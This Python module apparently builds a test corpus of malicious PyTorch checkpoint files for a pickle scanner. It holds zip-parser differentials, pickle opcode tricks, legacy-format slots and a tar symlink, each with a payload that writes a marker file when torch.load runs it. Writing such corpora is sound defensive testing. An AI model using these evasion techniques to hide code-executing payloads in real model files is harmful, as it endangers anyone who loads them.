"""The hand-written attack corpus: each trick as a file, and whether torch.load runs it.

``runs`` records what torch 2.13's ``torch.load(weights_only=False)`` does with the
file, as measured by the differential harness (a test asserts it, so a torch
upgrade that changes it is noticed). Whatever ``runs`` says, the scan must call
every file here unsafe: the ones torch refuses still carry a payload that another
loader or torch version runs.
"""

from __future__ import annotations

import pickle
import struct
from dataclasses import dataclass
from pathlib import Path

from craft import (
    MARK,
    POP,
    PROTO2,
    PROTO4,
    STOP,
    Entry,
    benign_pickle,
    build_zip,
    build_zip_two_directories,
    payload_pickle,
    su,
    tar_checkpoint,
    torch_entries,
    touch,
)
from differential import Case, marker_for

_MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
_PROTOCOL = pickle.dumps(1001, protocol=2)
_SYS_INFO = pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
_EMPTY = pickle.dumps({}, protocol=2)
_KEYS = pickle.dumps([], protocol=2)


@dataclass
class Trick:
    name: str
    #: what the trick does to a scanner, in a phrase
    what: str
    #: torch.load(weights_only=False) runs the payload (measured)
    runs: bool


def _zip_cases(m: dict[str, str]) -> list[tuple[Trick, bytes]]:
    p = {name: payload_pickle(path) for name, path in m.items()}
    benign = benign_pickle()
    rest = [Entry(b"archive/byteorder", b"little"), Entry(b"archive/version", b"3\n")]
    data = b"archive/data.pkl"
    cases = []

    def add(name: str, what: str, runs: bool, blob: bytes) -> None:
        cases.append((Trick(name, what, runs), blob))

    add("zip duplicate, payload first", "torch reads the first data.pkl, zipfile the last",
        True, build_zip([Entry(data, p["zip duplicate, payload first"]), Entry(data, benign), *rest]))  # fmt: skip
    add("zip duplicate, payload second", "the reverse: zipfile reads the payload", False,
        build_zip([Entry(data, benign), Entry(data, p["zip duplicate, payload second"]), *rest]))  # fmt: skip
    add("zip NUL-byte decoy", "zipfile cuts 'data.pkl\\0X' to data.pkl and reads the decoy", True,
        build_zip([Entry(data, p["zip NUL-byte decoy"]), Entry(data + b"\0X", benign), *rest]))  # fmt: skip
    add(
        "zip name case",
        "miniz finds DATA.PKL for data.pkl, zipfile does not",
        True,
        build_zip([Entry(b"archive/DATA.PKL", p["zip name case"]), *rest]),
    )
    entries = torch_entries(p["zip local name differs"])
    entries[0].local_name = b"archive/readme.txt"
    add(
        "zip local name differs", "a streaming unzipper sees another name", True, build_zip(entries)
    )
    entries = torch_entries(p["zip local method differs"])
    entries[0].local_method = 8
    add("zip local method differs", "local header says deflate, directory stored", True,
        build_zip(entries))  # fmt: skip
    entries = torch_entries(p["zip data descriptors"])
    entries[0].descriptor = True
    add("zip data descriptors", "sizes only after the data", True, build_zip(entries))
    entries = torch_entries(p["zip64"])
    entries[0].zip64 = True
    add("zip64", "zip64 sizes and end records", True, build_zip(entries, zip64_eocd=True))
    entries = torch_entries(p["zip deflate"])
    entries[0].method = 8
    add("zip deflate", "a compressed data.pkl", True, build_zip(entries))
    entries = torch_entries(p["zip bad CRC"])
    entries[0].crc = 0x12345678
    add("zip bad CRC", "zipfile refuses the member, torch never checks", True, build_zip(entries))
    add("zip end-record signature in comment", "zipfile finds no end record, miniz does", True,
        build_zip(torch_entries(p["zip end-record signature in comment"]), comment=b"PK\x05\x06xx"))  # fmt: skip
    add("zip two central directories", "zipfile relocates to the benign directory", True,
        build_zip_two_directories(
            [Entry(data, p["zip two central directories"]), Entry(data, benign), *rest],
            torch_sees=[0, 2, 3], zipfile_sees=[1, 2, 3]))  # fmt: skip
    add("zip entry count", "the end record counts 3 entries, zipfile reads all 4", True,
        build_zip([Entry(data, p["zip entry count"]), *rest, Entry(data, benign)], count=3))  # fmt: skip
    overlap = torch_entries(p["zip overlapping members"])
    add("zip overlapping members", "two directory entries share one local header", True,
        build_zip(overlap, order=[0, 1, 2, 0]))  # fmt: skip
    add("zip decoy local header", "the first local header is not in the directory", True,
        build_zip([Entry(data, benign), Entry(data, p["zip decoy local header"]), *rest],
                  order=[1, 2, 3]))  # fmt: skip
    add(
        "zip trailing bytes",
        "bytes after the end record",
        True,
        build_zip(torch_entries(p["zip trailing bytes"]), tail=b"\0" * 8),
    )
    for name, method in (("zip bzip2 member", 12), ("zip lzma member", 14)):
        entries = torch_entries(p[name])
        entries[0].method = method
        add(name, "miniz cannot read it; zipfile can", False, build_zip(entries))
    entries = torch_entries(p["zip encrypted flag"])
    entries[0].flags = 1
    add("zip encrypted flag", "marked encrypted, stored in the clear", False, build_zip(entries))
    return cases


def _pickle_cases(m: dict[str, str]) -> list[tuple[Trick, bytes]]:
    def t(name: str) -> bytes:
        return touch(m[name])

    def zipped(blob: bytes) -> bytes:
        return build_zip(torch_entries(blob))

    legacy_tail = [_SYS_INFO, _EMPTY, _KEYS]
    ustar = PROTO2 + t("ustar at 257, bad checksum") + POP
    ustar += (
        b"X" + struct.pack("<I", 300) + (b"u" * (257 - len(ustar) - 5) + b"ustar").ljust(300, b"\0")
    )
    looks = (
        b"G" + b"\0" * 7 + b"{" + POP + t("pickle that looks like safetensors") + POP + b"N" + STOP
    )
    looks += b" " * 80
    return [
        (Trick("INT in hex", "pickletools rejects I0x1f; the C unpickler reads 31", True),
         zipped(b"(I0x1f\n" + t("INT in hex") + b"t.")),
        (Trick("INT with a NUL", "strtol stops at NUL: I5\\0junk is 5", True),
         zipped(b"(I5\0junk\n" + t("INT with a NUL") + b"t.")),
        (Trick("LONG with base prefix", "L0b101L is 5 to the C unpickler", True),
         zipped(b"(L0b101L\n" + t("LONG with base prefix") + b"t.")),
        (Trick("legacy magic number in hex", "pickle #1 is I0x...: pickletools rejects it", True),
         b"I0x1950a86a20f9469cfc6c\n." + _PROTOCOL + _SYS_INFO
         + PROTO2 + t("legacy magic number in hex") + STOP + _KEYS),
        (Trick("legacy protocol in octal", "I01751 is 1001 to strtol, 1751 to int()", True),
         _MAGIC + b"I01751\n." + _SYS_INFO + PROTO2 + t("legacy protocol in octal") + STOP + _KEYS),
        (Trick("legacy sys_info slot", "the payload in the third pickle", True),
         _MAGIC + _PROTOCOL + PROTO2 + t("legacy sys_info slot") + STOP + _EMPTY + _KEYS),
        (Trick("legacy storage-keys slot", "the payload in the fifth pickle", True),
         _MAGIC + _PROTOCOL + _SYS_INFO + _EMPTY + PROTO2 + t("legacy storage-keys slot") + STOP),
        (Trick("legacy wrong protocol", "torch stops after pickle #2; pickle #3 is a payload",
               False),
         _MAGIC + pickle.dumps(7, 2) + PROTO2 + t("legacy wrong protocol") + STOP + _EMPTY + _KEYS),
        (Trick("second stacked pickle", "torch.load stops after #1; a pickle.load loop runs #2",
               False),
         benign_pickle() + payload_pickle(m["second stacked pickle"])),
        (Trick("STRING escapes spell the module", "S'bu\\x69ltins' + STACK_GLOBAL", True),
         zipped(PROTO4 + b"S'bu\\x69ltins'\nS'open'\n\x93(V" + m["STRING escapes spell the module"].encode()
                + b"\nVw\ntR.")),
        (Trick("STRING that is not UTF-8", "torch raises; encoding='latin1' runs the rest", False),
         zipped(PROTO2 + b"S'\\xff'\n" + POP + t("STRING that is not UTF-8") + STOP)),
        (Trick("GLOBAL with CRLF", "the name is 'builtins\\r': the import fails", False),
         zipped(PROTO2 + b"cbuiltins\r\nopen\r\n(V" + m["GLOBAL with CRLF"].encode() + b"\nVw\ntR.")),
        (Trick("protocol switch to 2", "PROTO 4 then PROTO 2: __builtin__ is mapped again", True),
         zipped(PROTO4 + PROTO2 + b"c__builtin__\nopen\n(V" + m["protocol switch to 2"].encode()
                + b"\nVw\ntR.")),
        (Trick("Python 2 name at protocol 3", "no mapping: __builtin__ does not import", False),
         zipped(b"\x80\x03c__builtin__\nopen\n(V" + m["Python 2 name at protocol 3"].encode()
                + b"\nVw\ntR.")),
        (Trick("INST", "protocol 0 INST calls the class with the marked arguments", True),
         zipped(b"(V" + m["INST"].encode() + b"\nVw\nibuiltins\nopen\n.")),
        (Trick("FLOAT with underscore", "C rejects F1_0; pickle._Unpickler reads 10.0", False),
         zipped(PROTO2 + b"F1_0\n" + POP + t("FLOAT with underscore") + STOP)),
        (Trick("FRAME longer than the data", "C reads the frame first and fails", False),
         zipped(PROTO4 + b"\x95" + struct.pack("<Q", 1 << 20) + t("FRAME longer than the data") + STOP)),
        (Trick("ustar at 257, bad checksum", "torch tries tar, fails, unpickles", True), ustar + STOP),
        (Trick("pickle that looks like safetensors", "bytes 0-7 a small length, byte 8 '{'", True),
         looks),
        (Trick("tar checkpoint, payload in storages", "a valid tar header: torch's tar route", True),
         tar_checkpoint(benign_pickle(), [], [], members={
             "storages": payload_pickle(m["tar checkpoint, payload in storages"])})),
        (Trick("tar checkpoint, payload in the object", "the tar's pickle member", True),
         tar_checkpoint(payload_pickle(m["tar checkpoint, payload in the object"]), [], [])),
        (Trick("STACK_GLOBAL through the memo", "names reach STACK_GLOBAL via the memo", True),
         zipped(PROTO4 + su("builtins") + b"\x94" + POP + su("open") + b"\x94" + POP
                + b"h\x00h\x01\x93" + MARK + su(m["STACK_GLOBAL through the memo"]) + su("w")
                + b"tR.")),
    ]  # fmt: skip


def _tar_link_case(m: dict[str, str], root: Path) -> tuple[Trick, bytes]:
    import io
    import tarfile

    target = root / "outside.pkl"
    target.write_bytes(payload_pickle(m["tar storages is a symlink"]))
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:", format=tarfile.PAX_FORMAT) as tar:
        link = tarfile.TarInfo("storages")
        link.type, link.linkname = tarfile.SYMTYPE, str(target)
        tar.addfile(link)
        for name, data in (("tensors", pickle.dumps(0, 2)), ("pickle", benign_pickle())):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return Trick("tar storages is a symlink", "torch extracts the link and unpickles its target",
                 True), out.getvalue()  # fmt: skip


NAMES = [
    "zip duplicate, payload first", "zip duplicate, payload second", "zip NUL-byte decoy",
    "zip name case", "zip local name differs", "zip local method differs", "zip data descriptors",
    "zip64", "zip deflate", "zip bad CRC", "zip end-record signature in comment",
    "zip two central directories", "zip entry count", "zip overlapping members",
    "zip decoy local header", "zip trailing bytes", "zip bzip2 member", "zip lzma member",
    "zip encrypted flag", "INT in hex", "INT with a NUL", "LONG with base prefix",
    "legacy magic number in hex", "legacy protocol in octal", "legacy sys_info slot",
    "legacy storage-keys slot", "legacy wrong protocol", "second stacked pickle",
    "STRING escapes spell the module", "STRING that is not UTF-8", "GLOBAL with CRLF",
    "protocol switch to 2", "Python 2 name at protocol 3", "INST", "FLOAT with underscore",
    "FRAME longer than the data", "ustar at 257, bad checksum",
    "pickle that looks like safetensors", "tar checkpoint, payload in storages",
    "tar checkpoint, payload in the object", "STACK_GLOBAL through the memo",
    "tar storages is a symlink",
]  # fmt: skip


def trick_cases(root: Path) -> tuple[list[Case], dict[str, Trick]]:
    """Every trick as a :class:`Case` under ``root``, and its description by name."""
    markers = {name: str(marker_for(root, _slug(name))) for name in NAMES}
    built = _zip_cases(markers) + _pickle_cases(markers) + [_tar_link_case(markers, root)]
    cases = [Case(_slug(trick.name), blob, trick.what) for trick, blob in built]
    return cases, {_slug(trick.name): trick for trick, _ in built}


def _slug(name: str) -> str:
    return "".join(c if c.isalnum() else "_" for c in name).strip("_")
